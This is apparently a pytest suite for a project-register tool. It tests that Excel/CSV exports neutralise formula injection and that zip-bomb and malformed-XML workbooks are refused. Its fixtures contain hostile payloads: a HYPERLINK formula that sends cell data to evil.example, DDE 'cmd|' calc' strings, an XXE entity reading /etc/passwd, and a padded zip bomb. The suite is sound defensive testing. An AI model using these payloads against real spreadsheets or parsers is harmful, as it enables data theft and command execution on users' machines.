"""Spreadsheets from and for outside the twin: exports that Excel cannot run as formulas (.xlsx text
cells, CSV cells behind a quote), workbooks that are zip bombs or broken XML refused as bad input,
and uploads sent as application/octet-stream or as a browser's form."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import orjson
import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from test_intake import empty_twin, run

from api.main import create_app
from api.settings import ApiSettings
from completion.intake import FORMULA_STARTS, csv_safe, csv_unquoted, table_bytes
from twin import Twin

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
LINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
# Texts Excel would run as formulas, in the fields a person types.
NAMES = {"XM-001": LINK, "XM-002": "+cmd|' /C calc'!A0"}
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
PERSON = "-2+3"
NOTE = "=1+1"
REPORTER = "@reporter"
REGISTER = (
    "code,area,name_zh,responsible_unit,responsible_person,planned_start,planned_finish,quantity,quantity_unit\n"
    f'XM-001,roads,"{LINK.replace(chr(34), chr(34) * 2)}",{UNIT},{PERSON},2026-08-01,2026-10-01,100,m2\n'
    f"XM-002,roads,{NAMES['XM-002']},{UNIT},'quoted,2026-08-01,2026-10-01,100,m2\n"
)
REPORTS = f"code,date,percent,note,reporter\nXM-001,2026-08-20,10,{NOTE},{REPORTER}\n"


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def named(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A twin whose projects, unit, person, note and reporter are texts Excel would run as formulas;
    XM-001 is late (10% of a job due 2026-10-01), XM-002 has no report."""
    d = tmp_path_factory.mktemp("named")
    store = empty_twin(d / "t.gpkg")
    code, out = run("projects", "import", str(_write(d / "reg.csv", REGISTER)), "--store", str(store), "--author", "t")
    assert code == 0, out
    code, out = run("progress", "import", str(_write(d / "rep.csv", REPORTS)), "--store", str(store), "--author", "t")
    assert code == 0, out
    return store


def _props(store: Path, code: str) -> dict:
    with Twin.open(store) as twin:
        return orjson.loads(twin.feature("projects", code))["properties"]


def _head(store: Path) -> str | None:
    with Twin.open(store) as twin:
        head = twin.head()
        return head.id if head else None


def _csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # meant for Excel
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _no_live_formula(rows: list[list[str]]) -> None:
    """No cell Excel would run: every one starting with = + - @ is a number (-5), not text."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # raises for a text


# ---------------------------------------------------------------------------- exports
def test_a_name_like_a_formula_is_text_in_the_excel_exports(named: Path, tmp_path: Path) -> None:
    """A project named =HYPERLINK(...) was written as a live formula in .xlsx (and the exported
    register was refused when imported back: "the formula has no saved result")."""
    assert _props(named, "XM-001")["name_zh"] == LINK
    register, status = tmp_path / "reg.xlsx", tmp_path / "status.xlsx"
    assert run("projects", "export", str(register), "--store", str(named))[0] == 0
    assert run("projects", "export", str(status), "--status", "--store", str(named))[0] == 0
    for path in (register, status):
        with zipfile.ZipFile(path) as z:
            sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in x or b"<f " in x for x in sheets), path
        ws = load_workbook(path).active
        header = [c.value for c in ws[1]]
        cells = {ws.cell(r, 1).value: ws.cell(r, header.index("name_zh") + 1) for r in range(2, ws.max_row + 1)}
        assert cells["XM-001"].value == LINK and cells["XM-001"].data_type == "s"
        assert cells["XM-002"].value == NAMES["XM-002"]
    before = _head(named)
    code, out = run("projects", "import", str(register), "--store", str(named), "--author", "t")
    assert code == 0 and "nothing to commit" in out, out
    assert _head(named) == before


def test_csv_cells_that_would_start_a_formula_are_quoted_text_only() -> None:
    rows = [{"a": -5, "b": "-5", "c": LINK, "d": "'=x", "e": "ok", "f": 1.5, "g": "\tx", "h": "'plain"}]
    data = table_bytes(rows, list("abcdefgh"), "csv")
    assert _csv_cells(data)[1] == ["-5", "'-5", "'" + LINK, "''=x", "ok", "1.5", "'\tx", "'plain"]
    for text in ("=x", "'=x", "''=x", "+1", "-", "@", "'", "''", "x=1", "'x", "", "\r1"):
        assert csv_unquoted(csv_safe(text)) == text
    assert csv_safe(-5) == -5 and csv_safe(None) is None


def test_the_register_csv_quotes_formulas_and_imports_back_exactly(named: Path, tmp_path: Path) -> None:
    out = tmp_path / "reg.csv"
    assert run("projects", "export", str(out), "--store", str(named))[0] == 0
    rows = _csv_cells(out.read_bytes())
    _no_live_formula(rows)
    by_code = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert by_code["XM-001"]["name_zh"] == "'" + LINK and by_code["XM-001"]["responsible_person"] == "'" + PERSON
    assert by_code["XM-002"]["responsible_person"] == "'quoted"  # no formula: left as it is
    # Into the same twin: no change. Into a fresh one: every text as the twin has it.
    before = _head(named)
    code, text = run("projects", "import", str(out), "--store", str(named), "--author", "t")
    assert code == 0 and "nothing to commit" in text, text
    assert _head(named) == before
    fresh = empty_twin(tmp_path / "fresh.gpkg")
    assert run("projects", "import", str(out), "--store", str(fresh), "--author", "t")[0] == 0
    fields = ("name_zh", "name_en", "responsible_unit", "responsible_person", "quantity")
    for code in NAMES:
        a, b = _props(named, code), _props(fresh, code)
        assert {k: a.get(k) for k in fields} == {k: b.get(k) for k in fields}
    assert _props(fresh, "XM-002")["responsible_person"] == "'quoted"


def test_report_csvs_for_excel_quote_formulas_over_http_and_the_layer_download_does_not(named: Path) -> None:
    with TestClient(create_app(ApiSettings(store=named))) as api:
        got = {}
        for url in (
            "/projects",
            "/completion/units",
            "/completion/late",
            "/completion/missing",
            "/projects/XM-001/progress",
        ):
            r = api.get(url, params={"f": "csv"})
            assert r.status_code == 200, (url, r.text)
            rows = _csv_cells(r.content)
            _no_live_formula(rows)
            got[url] = {cell for row in rows for cell in row}
        assert {"'" + LINK, "'" + UNIT, "'" + PERSON} <= got["/projects"]
        assert "'" + UNIT in got["/completion/units"]
        assert {"'" + LINK, "'" + UNIT} <= got["/completion/late"]
        assert "'" + NAMES["XM-002"] in got["/completion/missing"]
        assert {"'" + NOTE, "'" + REPORTER} <= got["/projects/XM-001/progress"]
        r = api.get("/projects", params={"f": "xlsx"})
        with zipfile.ZipFile(io.BytesIO(r.content)) as z:
            assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
        # The layer's download is for GIS tools and imports back as it is: its texts stay as stored.
        r = api.get("/collections/projects/download", params={"f": "csv"})
        assert r.status_code == 200
        layer = {c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row}
        assert LINK in layer and "'" + LINK not in layer


def test_completion_csv_redirected_to_a_file_quotes_formulas_and_a_pipe_does_not(named: Path, tmp_path: Path) -> None:
    cmd = [sys.executable, "-m", "cli.main", "completion", "late", "--csv", "--store", str(named)]
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}
    out = tmp_path / "late.csv"
    with out.open("wb") as f:
        assert subprocess.run(cmd, stdout=f, env=env).returncode == 0
    rows = _csv_cells(out.read_bytes())
    _no_live_formula(rows)
    assert "'" + LINK in {c for row in rows for c in row}
    piped = subprocess.run(cmd, capture_output=True, env=env).stdout.decode()
    assert LINK in {c for row in csv.reader(io.StringIO(piped)) for c in row}


# ---------------------------------------------------------------------------- workbooks read
def _register_book() -> bytes:
    book = Workbook()
    ws = book.active
    ws.title = "register"
    ws.append(
        ["code", "name_zh", "area", "responsible_unit", "planned_start", "planned_finish", "quantity", "quantity_unit"]
    )
    ws.append(["XM-101", "路面", "roads", "市政工程公司", "2026-08-01", "2026-10-01", 100, "m2"])
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _rebuilt(data: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """The workbook with its sheet's XML changed (everything else as it was)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            member = src.read(info)
            z.writestr(info.filename, change(member) if info.filename == "xl/worksheets/sheet1.xml" else member)
    return out.getvalue()


def _padded(mb: float) -> bytes:
    """A valid workbook whose sheet XML is padded with whitespace to some ``mb`` MB: read without
    a check, it imports as any other."""
    pad = b" " * int(mb * 1024 * 1024)
    return _rebuilt(_register_book(), lambda x: x.replace(b"</sheetData>", pad + b"</sheetData>"))


BROKEN = {
    "cut in half": lambda x: x[: len(x) // 2],
    "an entity of a DTD": lambda x: x.replace(
        b"<worksheet", b'<!DOCTYPE w [<!ENTITY e "XM-101">]><worksheet', 1
    ).replace(b"XM-101", b"&e;", 1),
    "an external entity": lambda x: x.replace(
        b"<worksheet", b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet', 1
    ).replace(b">100<", b">&e;<", 1),
}


@pytest.fixture
def api(tmp_path: Path) -> Iterator[tuple[TestClient, dict[str, str], Path]]:
    store = empty_twin(tmp_path / "t.gpkg")
    with Twin.open(store) as twin:
        token = twin.tokens.create("li.wei", "editor")
    with TestClient(create_app(ApiSettings(store=store))) as client:
        yield client, {"Authorization": f"Bearer {token}"}, store


def test_a_workbook_that_would_unpack_past_the_limit_is_refused_before_it_is_read(
    api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    client, auth, store = api
    monkeypatch.setenv("VENUE_TWIN_WORKBOOK_MAX_MB", "1")
    book = _padded(3)
    assert len(book) < 100_000
    r = client.post("/projects/import", content=book, headers={**auth, "Content-Type": XLSX})
    assert r.status_code == 413, r.text
    assert "1 MB (VENUE_TWIN_WORKBOOK_MAX_MB)" in r.json()["detail"], r.json()
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(book)
    code, out = run("projects", "import", str(path), "--store", str(store), "--author", "t")
    assert code == 2 and "VENUE_TWIN_WORKBOOK_MAX_MB" in out, out
    assert _head(store) is None
    # Under the limit the same workbook reads as any other.
    monkeypatch.setenv("VENUE_TWIN_WORKBOOK_MAX_MB", "4")
    assert run("projects", "import", str(path), "--store", str(store), "--author", "t")[0] == 0


def test_a_workbook_that_unpacks_a_thousandfold_is_refused_as_a_zip_bomb(api) -> None:
    client, auth, store = api
    r = client.post("/projects/import", content=_padded(12), headers={**auth, "Content-Type": XLSX})
    assert r.status_code == 413 and "zip bomb" in r.json()["detail"], r.text
    assert _head(store) is None


def test_a_shapefile_zip_that_would_unpack_past_the_limit_is_refused_before_gdal_reads_it(
    named: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = empty_twin(tmp_path / "t.gpkg")
    shp = tmp_path / "projects.zip"
    assert run("export", "projects", "-o", str(shp), "--store", str(named))[0] == 0
    with zipfile.ZipFile(shp, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("readme.txt", b" " * (2 * 1024 * 1024))
    monkeypatch.setenv("VENUE_TWIN_SHAPEFILE_ZIP_MAX_MB", "1")
    code, out = run("import", str(shp), "--layer", "projects", "--store", str(store), "--author", "t")
    assert code == 2 and "VENUE_TWIN_SHAPEFILE_ZIP_MAX_MB" in out, out
    assert _head(store) is None
    monkeypatch.setenv("VENUE_TWIN_SHAPEFILE_ZIP_MAX_MB", "3")
    code, out = run("import", str(shp), "--layer", "projects", "--store", str(store), "--author", "t")
    assert code == 0, out


def test_the_version_a_shapefile_zip_records_is_read_from_its_head_alone(tmp_path: Path) -> None:
    """z.read(...)[:200] unpacked the whole member. Stored uncompressed, with a byte after the id
    changed so that its checksum fails: only a read of the whole member notices."""
    from layers.io import VERSION_FILE, recorded_version

    commit = "ab" * 32
    path = tmp_path / "x.zip"
    member = (commit + "\n").encode() + b" " * 100_000
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr(VERSION_FILE, member)
    data = bytearray(path.read_bytes())
    at = bytes(data).index(member) + 50_000
    data[at] = ord("x")
    path.write_bytes(bytes(data))
    assert recorded_version(path) == commit


@pytest.mark.parametrize("how", BROKEN)
def test_a_broken_workbook_is_bad_input_not_a_server_error(api, tmp_path: Path, how: str) -> None:
    client, auth, store = api
    book = _rebuilt(_register_book(), BROKEN[how])
    r = client.post("/projects/import", content=book, headers={**auth, "Content-Type": XLSX})
    assert r.status_code == 400 and "not a readable Excel workbook" in r.json()["detail"], r.text
    path = tmp_path / "broken.xlsx"
    path.write_bytes(book)
    code, out = run("projects", "import", str(path), "--store", str(store), "--author", "t")
    assert code == 2 and "broken.xlsx: not a readable Excel workbook" in out and "Traceback" not in out, out
    assert _head(store) is None


# ---------------------------------------------------------------------------- uploads
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504  # an Excel 97-2003 .xls begins so


def test_a_workbook_or_csv_sent_as_octet_stream_is_read_by_its_bytes(api) -> None:
    client, auth, store = api
    octet = {**auth, "Content-Type": "application/octet-stream"}
    r = client.post("/projects/import", content=_register_book(), headers=octet)
    assert r.status_code == 201, r.text
    report = b"code,date,percent\nXM-101,2026-08-20,10\n"
    r = client.post("/progress/import", content=report, headers=octet)
    assert r.status_code == 201 and r.json()["reports"] == 1, r.text


@pytest.mark.parametrize("ctype", ["application/vnd.ms-excel", "application/octet-stream"])
def test_an_old_xls_is_named_as_one_with_the_advice(api, ctype: str) -> None:
    client, auth, store = api
    r = client.post("/projects/import", content=OLE2, headers={**auth, "Content-Type": ctype})
    detail = r.json()["detail"]
    assert r.status_code == 400 and detail.startswith("upload.xls: an Excel 97-2003 .xls file; save it as .xlsx"), (
        r.text
    )
    assert _head(store) is None


def test_a_browser_form_with_one_file_is_read_as_that_file(api) -> None:
    client, auth, store = api
    r = client.post(
        "/projects/import", files={"file": ("项目清单.xlsx", _register_book(), XLSX)}, data={"note": "x"}, headers=auth
    )
    assert r.status_code == 201 and r.json()["projects"] == 1, r.text
    report = b"code,date,percent\nXM-101,2026-08-20,10\n"
    r = client.post("/progress/import", files={"upload": ("周报.csv", report, "text/csv")}, headers=auth)
    assert r.status_code == 201 and r.json()["sheet"] == "周报", r.text
    # An error names the file as the form did.
    r = client.post("/progress/import", files={"file": ("old.xls", OLE2, "application/vnd.ms-excel")}, headers=auth)
    assert r.status_code == 400 and r.json()["detail"].startswith("old.xls: an Excel 97-2003 .xls file"), r.text


def test_a_form_without_one_file_says_so(api) -> None:
    client, auth, store = api
    r = client.post("/projects/import", data={"note": "x"}, files={"empty": ("", b"", "application/octet-stream")},
                    headers=auth)  # fmt: skip
    assert r.status_code == 400 and "the form has no file" in r.json()["detail"], r.text
    two = {"a": ("a.csv", b"code\n", "text/csv"), "b": ("b.csv", b"code\n", "text/csv")}
    r = client.post("/projects/import", files=two, headers=auth)
    assert r.status_code == 400 and "2 files (a, b)" in r.json()["detail"], r.text
    r = client.post("/projects/import", content=b"--x--", headers={**auth, "Content-Type": "multipart/form-data"})
    assert r.status_code == 400 and "boundary" in r.json()["detail"], r.text
    assert _head(store) is None
